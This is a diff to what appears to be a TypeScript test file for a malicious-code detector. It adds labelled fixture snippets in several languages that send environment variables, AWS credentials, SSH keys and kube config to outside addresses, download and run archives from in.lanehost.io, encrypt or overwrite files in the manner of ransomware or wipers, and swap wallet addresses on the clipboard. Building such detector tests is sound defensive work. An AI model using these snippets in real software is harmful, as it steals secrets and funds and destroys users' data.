@@ -71,6 +71,89 @@ const shells = [
 ];
 
 const seen: ReadonlyArray<readonly [string, string, Example]> = [
+  [
+    "JavaScript: the environment in the query of an address",
+    "T08-flow-secrets",
+    {
+      "a.mjs": `const u = new URL("${place}");\nu.searchParams.set("c", JSON.stringify(process.env));\nawait fetch(u);\n`,
+    },
+  ],
+  [
+    "shell: an archive that is fetched, opened and started",
+    "T06-download-run-undeclared",
+    {
+      "a.sh": 'd=$(mktemp -d)\nwget -qO- https://in.lanehost.io/a.tgz | tar xz -C "$d"\ncd "$d" && ./agent\n',
+    },
+  ],
+  [
+    "shell: an archive with a name, opened and started",
+    "T06-download-run-undeclared",
+    { "a.sh": "curl -so a.zip https://in.lanehost.io/a.zip\nunzip -q a.zip\n./agent\n" },
+  ],
+  [
+    "Go: keys under a path in pieces",
+    "T08-program-sends-secrets",
+    {
+      "main.go":
+        'blob, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))\nhttp.Post(priceAPI, "text/plain", bytes.NewReader(blob))\n',
+    },
+  ],
+  [
+    "Swift: a key that is put somewhere",
+    "T08-program-sends-secrets",
+    {
+      "a.swift":
+        'request.httpMethod = "PUT"\nURLSession.shared.uploadTask(with: request, from: data) { _, _, _ in }.resume()\nupload(home.appendingPathComponent(".ssh/id_rsa"))\n',
+    },
+  ],
+  [
+    "Kotlin: a cluster's key through a connection",
+    "T08-program-sends-secrets",
+    {
+      "a.main.kts":
+        'c.requestMethod = "POST"\nval kube = home.resolve(".kube/config")\nc.outputStream.use { it.write(kube.readBytes()) }\n',
+    },
+  ],
+  [
+    "PHP: the environment in a form",
+    "T08-program-sends-secrets",
+    {
+      "a.php":
+        "<?php $c = stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query(getenv())]]);\nfile_get_contents($address, false, $c);\n",
+    },
+  ],
+  [
+    "Go: files that only a key opens, where they lie",
+    "T19-files-wiped",
+    {
+      "main.go":
+        "filepath.Walk(root, visit)\nfunc wrap(path string, s cipher.Stream) {\n s.XORKeyStream(b, b)\n os.WriteFile(path, b, 0o600)\n}\n",
+    },
+  ],
+  [
+    "Java: files locked beside, and removed",
+    "T19-files-wiped",
+    {
+      "A.java":
+        "cipher.init(Cipher.ENCRYPT_MODE, key);\nFiles.walkFileTree(root, v);\nFiles.write(locked, cipher.doFinal(bytes));\nFiles.delete(f);\nfor (Path p : paths) show(p);\n",
+    },
+  ],
+  [
+    "Rust: noise in the place of files",
+    "T19-files-wiped",
+    {
+      "a.rs":
+        'for e in fs::read_dir(p)? { normalise(&e.path()) }\nFile::open("/dev/urandom")?.read_exact(&mut noise)?;\nf.seek(SeekFrom::Start(0))?;\nf.write_all(&noise)?;\n',
+    },
+  ],
+  [
+    "Swift: the clipboard watched and changed",
+    "T29-clipboard-swap",
+    {
+      "a.swift":
+        'let mine = "bc1qv7x0k3m9e5hs2tduz84wyrfl6jacnp0q5gd2xe"\nTimer.scheduledTimer(withTimeInterval: 0.4, repeats: true) { _ in\n  if let text = board.string(forType: .string), isWallet(text) { board.setString(mine, forType: .string) }\n}\n',
+    },
+  ],
   ...Object.entries(lines).map(([name, example]): readonly [string, string, Example] => [
     `${name}: a shell on a line`,
     "T06-program-opens-shell",
